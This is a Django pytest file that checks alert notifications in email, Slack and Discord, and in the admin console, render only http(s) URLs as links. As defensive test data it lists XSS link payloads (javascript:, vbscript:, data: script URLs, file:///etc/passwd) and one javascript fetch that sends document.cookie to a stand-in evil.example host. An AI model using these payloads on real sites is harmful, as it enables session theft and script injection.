"""Only http(s) URLs become links: in every notification channel and in the console, whatever an alert says."""

from __future__ import annotations

import re
from typing import Any
from urllib.parse import urlparse

import pytest
from django.contrib.auth.models import User
from django.core import mail
from django.core.mail import EmailMultiAlternatives
from django.test import Client
from hypothesis import given, settings
from hypothesis import strategies as st

from agents.notifiers.base import Link, Message
from agents.notifiers.discord import embed
from agents.notifiers.email import html
from agents.notifiers.slack import blocks
from tests.alerts.conftest import TOKEN, fixture, post
from tests.conftest import finish
from workflows.models import RunStatus, WorkflowRun

HOSTILE = [
    "javascript:alert(document.domain)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "/relative/path",
    "http:/no-host",
    "https://",
    "file:///etc/passwd",
]


def link_targets(message: Message) -> list[str]:
    """Every URL a channel's rendering of ``message`` makes clickable."""
    targets = re.findall(r"<a href='([^']*)'", html(message))
    for block in blocks(message):
        targets += [element["url"] for element in block.get("elements", []) if "url" in element]
    rendered = embed(message)
    targets += re.findall(r"\]\(([^)]*)\)", " ".join(f["value"] for f in rendered["fields"]))
    if "url" in rendered:
        targets.append(rendered["url"])
    return targets


def clickable_web_url(target: str) -> bool:
    parsed = urlparse(target.replace("&amp;", "&"))
    return parsed.scheme in ("http", "https") and bool(parsed.hostname) and not re.search(r"\s", target)


@pytest.mark.parametrize("url", HOSTILE)
def test_a_link_that_is_not_a_web_url_is_shown_as_text(url: str) -> None:
    message = Message(
        title="DiskFull",
        summary="disk full",
        links=[Link("Run", "https://cc.example.test/run/1"), Link("Runbook", url)],
    )
    assert link_targets(message) == ["https://cc.example.test/run/1"] * 4  # email, Slack, Discord field, embed url
    assert message.fields["Runbook"] == url
    assert f"Runbook: {url}" in message.plain_text()


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.one_of(
            st.sampled_from(HOSTILE),
            st.text(max_size=30),
            st.builds(
                lambda scheme, rest: f"{scheme}:{rest}", st.sampled_from(["http", "https", "HTTP", "x"]), st.text()
            ),
        ),
        max_size=4,
    )
)
def test_whatever_the_urls_every_link_any_channel_renders_is_a_web_url(urls: list[str]) -> None:
    message = Message(title="t", summary="s", links=[Link(f"L{i}", url) for i, url in enumerate(urls)])
    assert all(clickable_web_url(target) for target in link_targets(message)), link_targets(message)


@pytest.mark.django_db
def test_an_alert_with_script_links_reaches_email_and_the_console_only_as_text(
    synced: None, monkeypatch: pytest.MonkeyPatch, settings: Any
) -> None:
    settings.WEBHOOK_TOKEN = TOKEN
    settings.WEBHOOK_HMAC_SECRET = ""
    monkeypatch.setenv("ALERT_EMAIL_TO", "oncall@example.test")
    payload = fixture("grafana_firing")
    for alert in payload["alerts"]:
        alert["annotations"]["runbook_url"] = "javascript:alert(document.cookie)"
        alert["dashboardURL"] = "JaVaScRiPt:fetch('//evil.example/?'+document.cookie)"
        alert["silenceURL"] = "data:text/html,<script>alert(1)</script>"
    response = post(payload)
    assert response.status_code == 200, response.content
    run = finish(WorkflowRun.objects.get(id=response.json()["workflowRunIds"][0]))
    assert run.status == RunStatus.SUCCESS, run.error

    (email,) = mail.outbox
    assert isinstance(email, EmailMultiAlternatives)
    body = email.alternatives[0][0]
    hrefs = re.findall(r"href=['\"]([^'\"]*)", str(body))
    assert hrefs and all(clickable_web_url(href) for href in hrefs), hrefs
    assert "javascript:alert(document.cookie)" in str(body)  # still there, as text

    admin = User.objects.create_superuser("root-links")
    client = Client()
    client.force_login(admin)
    pages = [f"/admin/workflows/workflowrun/{run.id}/change/", "/admin/alerts/alertevent/"]
    for page in pages:
        content = client.get(page).content.decode()
        hrefs = re.findall(r"href=['\"]([^'\"]*)", content)
        assert not [h for h in hrefs if re.match(r"\s*(javascript|data|vbscript):", h, re.I)], (page, hrefs)
